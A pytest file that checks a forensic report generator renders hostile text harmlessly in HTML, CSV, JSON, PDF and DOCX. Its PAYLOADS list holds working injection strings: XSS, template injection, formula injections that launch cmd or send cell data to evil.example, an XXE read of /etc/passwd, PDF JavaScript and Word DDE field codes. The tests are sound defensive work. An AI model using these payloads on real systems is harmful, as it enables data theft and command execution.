"""Hostile text in every field of a snapshot: it must end up visible and harmless in every format."""

import csv
import dataclasses
import io
import json
import re
import typing
import unicodedata
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import docx
import pypdfium2
import pytest

from deepfake_studio.report import csv_writer, docx_writer, html, inert, json_writer, pdf
from deepfake_studio.report.build import build
from deepfake_studio.trials import verify_report

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "img": '"><img src=x onerror=alert(1)>',
    "svg": "<svg/onload=alert(1)>",
    "single quote": "' onmouseover='alert(1)",
    "attribute": '" autofocus onfocus="alert(1)',
    "style": "</style><style>@import url(//evil.example)</style>",
    "comment": "<!-- --><!--><script>-->",
    "cdata": "]]><script>alert(1)</script>",
    "title end": "</title><script>alert(1)</script>",
    "javascript link": "javascript:alert(1)",
    "entity": "&lt;script&gt;&#x3c;script&#62;",
    "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "template attribute": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "shell formula": "=cmd|' /C calc'!A0",
    "hyperlink formula": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "plus formula": "+1+cmd|' /C calc'!A0",
    "minus formula": "-2+3+cmd|' /C calc'!A0",
    "at formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    "line formula": "a\n=1+1",
    "semicolon formula": 'a;=1+1;"=2+2',
    "quote formula": '"=1+1","=2+2"',
    "wide formula": "＝1+1",
    "blank formula": "  =1+1",
    "override": "evil\u202egpj.exe",
    "isolate": "\u2066\u2067\u2068a\u2069",
    "marks": "\u200e\u200f\u061c",
    "nul": "a\x00b",
    "escape": "\x1b[31mred\x1b[0m\x07",
    "c1": "\x85\x9b31m",
    "separators": "a\u2028b\u2029c",
    "zero width": "a\u200bb\ufeffc\u2060d",
    "tags": "".join(chr(0xE0000 + ord(c)) for c in "hidden"),
    "surrogate": "clip\udce9\ud800.mp4",
    "noncharacter": "\uffff\ufffe\U0010ffff",
    "zalgo": "Z" + "\u0301" * 200,
    "blank letters": "\u3164\u2800\u115f\u00ad",
    "brackets": "\u27e6U+202E\u27e7",
    "megabyte": "A" * 1_000_000,
    "megabyte of markup": "<b>" * 350_000,
    "empty": "",
    "dollar": "$x_{1}^{2}$ \\frac{a}{b} %(x)s %s {0}",
    "emoji": "👨‍👩‍👧 clip 😀.mp4",
    "hebrew": "קליפ 3.mp4",
    "json": '", "status": "examined", "x": "',
    "path": "../../../../etc/passwd",
    "page alias": "{nb} {number} {pages} {0} {__class__}",
    "pdf string": ") Tj ET /JS (app.alert(1)) BT (",
    "pdf object": "endstream endobj 1 0 obj << /S /JavaScript /JS (app.alert(1)) >>",
    "pdf hexadecimal": "<feff0041> Tj \\) \\051",
    "xmp": "</dc:title><pdfaid:part>1</pdfaid:part>",
    "seal": '<meta name="report-seal" content="<dc:identifier>content-sha256='
    + "0" * 64
    + "; audit-sequence=1; audit-head-sha256="
    + "0" * 64,
    "field code": 'INCLUDETEXT "c:\\\\secret.txt" DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
    "word field": "</w:t></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r>",
    "word xml": "</w:t><w:instrText>HYPERLINK</w:instrText><w:t>",
    "entities": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "markdown": "**bold** --cut-- __under__ [link](javascript:alert(1)) ~~x~~",
    "soft hyphen": "con\u00adfi\u00addence",
    "annotation": "\ufff9shown\ufffahidden\ufffb",
    "variation": "a\ufe0fb\U000e0101c",
    "newline flood": "\n" * 800,
    "tab flood": "\t" * 3000,
    "long word of links": "http://" * 2000,
    "arabic override": "\u202e\u0645\u0644\u0641.exe",
    "import": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "dynamic data": '=DDE("cmd";"/C calc";"x")',
}


def poisoned(noun, payload):
    """``noun`` with ``payload`` in every text that is no fixed word."""
    if isinstance(noun, str):
        return payload
    if isinstance(noun, tuple):
        return tuple(poisoned(v, payload) for v in noun)
    if isinstance(noun, dict):
        text = all(isinstance(k, str) for k in noun)
        return {payload + k: poisoned(v, payload) for k, v in noun.items()} if text else noun
    if not dataclasses.is_dataclass(noun):
        return noun
    hints = typing.get_type_hints(type(noun))
    fixed = {name for name, hint in hints.items() if "Literal" in str(hint)}
    values = {f.name: getattr(noun, f.name) for f in dataclasses.fields(noun)}
    return type(noun)(**{k: v if k in fixed else poisoned(v, payload) for k, v in values.items()})


# figures show names too, and drawing takes most of the time: these are the ones that could trouble the library
DRAWN = ("dollar", "nul", "emoji", "megabyte", "zalgo", "tab formula", "surrogate", "template")


@pytest.fixture(params=sorted(PAYLOADS))
def hostile(request, make):
    """A document all of whose texts are one payload, with that payload."""
    payload = PAYLOADS[request.param]
    if request.param not in DRAWN:
        request.getfixturevalue("no_figures")
    return build(poisoned(make.one(), payload)), payload


def _hidden(text):
    return [
        c
        for c in text
        if c not in "\n\t\u200d" and unicodedata.category(c) in {"Cc", "Cf", "Cs", "Cn", "Co", "Zl", "Zp"}
    ]


def test_html_csv_and_json_stay_harmless(hostile, make):
    document, payload = hostile
    _check_html(make.Page, html.render(document), payload)
    _check_csv(csv_writer.render(document))
    _check_json(json_writer.render(document))


def _check_html(page, data, payload):
    text = data.decode("utf-8")
    assert not _hidden(text)
    assert len(data) < 6_000_000
    found = page(data)
    assert not found.broken
    assert not {tag for tag, _ in found.tags} & {"script", "svg", "iframe", "b", "link"}
    assert len(found.named("style")) == 1
    for _, attrs in found.tags:
        assert not [name for name in attrs if name.startswith("on")]
        assert set(attrs) <= {
            "id",
            "class",
            "src",
            "alt",
            "href",
            "scope",
            "lang",
            "charset",
            "http-equiv",
            "content",
            "name",
            "aria-labelledby",
            "aria-hidden",
        }
        assert attrs.get("src", "data:image/").startswith("data:image/")
        assert attrs.get("href", "#").startswith("#")
    if "{{" in payload:
        assert "49" not in found.named("title")
        assert payload in "".join(found.texts)


def _check_csv(data):
    text = data.decode("utf-8")
    assert not _hidden(text.replace("\r\n", ""))
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            if not re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", field):
                assert not re.match(r"""[\s"']*[=+\-@＝＋－＠\t\r]""", field) or field.startswith("'")
                assert not re.search(r"""[;\n][\s"]*[=+@\-]""", field)


def _check_json(data):
    text = data.decode("utf-8")
    assert not _hidden(text)
    assert json.loads(text)["schema"] == "deepfake-studio/report/1"


def test_what_cannot_be_seen_is_named():
    assert inert.line("evil\u202egpj.exe") == "evil⟦U+202E⟧gpj.exe"
    assert inert.line("a\x00b\n") == "a⟦U+0000⟧b⟦U+000A⟧"
    assert inert.lines("a\r\nb\tc\rd") == "a\nb\tc⟦U+000D⟧d"
    assert inert.line("\u27e6U+202E\u27e7") == "⟦U+27E6⟧U+202E⟦U+27E7⟧"
    assert inert.line("clip\udce9.mp4") == "clip⟦U+DCE9⟧.mp4"


def test_what_people_write_stays_as_it_is():
    for text in ("קליפ 3.mp4", "présumé", "видео", "动画", "می‌خواهم", "👨‍👩‍👧", "a — “b” …", "हिन्दी", "x́"):
        assert inert.line(text) == text


def test_long_text_is_cut_visibly_with_its_hash():
    shown = inert.line("A" * 1_000_000)
    assert len(shown) < 1_200
    assert "1000000 characters in all, SHA-256" in shown


def test_text_made_inert_is_different_for_different_text():
    texts = ["\u202e", "⟦U+202E⟧", "A" * 2000, "A" * 2001, "⟦", "a\nb", "a⟦U+000A⟧b"]
    assert len({inert.line(t) for t in texts}) == len(texts)


# ---- PDF and DOCX: all payloads in one document each, since laying one out takes a while -----------------------------


@pytest.fixture(scope="module")
def every(make):
    """A document with each payload as a name, a note, a tag, a value, a statement and a title."""
    base = make.one()
    media = dataclasses.replace(make.media(), metadata={f"{k} {v}": v for k, v in PAYLOADS.items()})
    records = [
        dataclasses.replace(make.exhibit_record(i), note=text, received_from=text, tags=(text,), number=f"{i} {text}")
        for i, text in enumerate(PAYLOADS.values(), 1)
    ]
    records[0] = dataclasses.replace(records[0], media=media)
    findings = tuple(
        make.finding(i, statement=text, basis=text, limitations=text, examiner=text)
        for i, text in enumerate(PAYLOADS.values(), 1)
    )
    whole = "".join(v for v in PAYLOADS.values() if len(v) < 1000)
    info = dataclasses.replace(base.info, number=whole, title=PAYLOADS["megabyte"], question=whole, requested_by=whole)
    key = make.key_frame(caption=whole)
    return build(make.snapshot(exhibits=records, findings=findings, info=info, key_frames=(key,)))


def test_there_are_sixty_payloads():
    assert len(PAYLOADS) >= 60


def test_pdf_stays_harmless(every):
    data = pdf.render(every)
    # what is left without the strings: names, operators, streams; a string is only ever shown
    outside = re.sub(rb"\((?:\\.|[^()\\])*\)", b"()", data, flags=re.S)
    for name in (b"/JavaScript", b"/JS ", b"/Launch", b"/URI", b"/OpenAction <<", b"/EmbeddedFile", b"/AA "):
        assert name not in outside
    metadata = data[data.rindex(b'<?xpacket begin="\xef\xbb\xbf"') :]
    assert data.count(b'<?xpacket begin="\xef\xbb\xbf"') == 1
    assert metadata.count(b"<pdfaid:part>") == 1
    found = pypdfium2.PdfDocument(data)
    pages = [found[i].get_textpage().get_text_bounded() for i in range(len(found))]
    text = "\n".join(pages)
    assert not [c for c in _hidden(text.replace("\r", "")) if c not in "\ufffe"]
    assert f"Page {len(pages)} of {len(pages)}" in pages[-1]
    squeezed = re.sub(r"[\s\ufffe-]+", "", text)
    for name in ("script", "template", "pdf string", "pdf object", "page alias", "word field", "markdown"):
        assert re.sub(r"[\s-]+", "", PAYLOADS[name]) in squeezed, name
    assert "⟦U+202E⟧" in squeezed
    assert "⟦U+0000⟧" in squeezed
    assert len(data) < 6_000_000


def test_docx_stays_harmless(every):
    data = docx_writer.render(every)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(content)  # well formed: no payload closed or opened an element
                assert b"<!ENTITY" not in content
                assert b'TargetMode="External"' not in content
                fields = set(re.findall(rb"<w:instrText[^>]*>([^<]*)", content))
                assert fields <= {b"PAGE", b"NUMPAGES", b' TOC \\o "1-1" \\h \\z '}
    found = docx.Document(io.BytesIO(data))
    cells = "".join(t.text for table in found.tables for t in table._tbl.xpath(".//w:t"))
    assert PAYLOADS["script"] in cells
    assert PAYLOADS["field code"] in cells
    assert not _hidden(cells.replace("\u200b", ""))
    assert len(data) < 6_000_000


@pytest.mark.parametrize("writer", [pdf, docx_writer, html, json_writer, csv_writer])
def test_no_payload_can_pose_as_the_seal(writer, every, no_figures):
    seal = verify_report.sealed(Path("report"), writer.render(every))
    assert seal.content_sha256 == every.content_sha256
    assert (seal.audit_sequence, seal.audit_head_sha256) == (every.audit_sequence, every.audit_head_sha256)
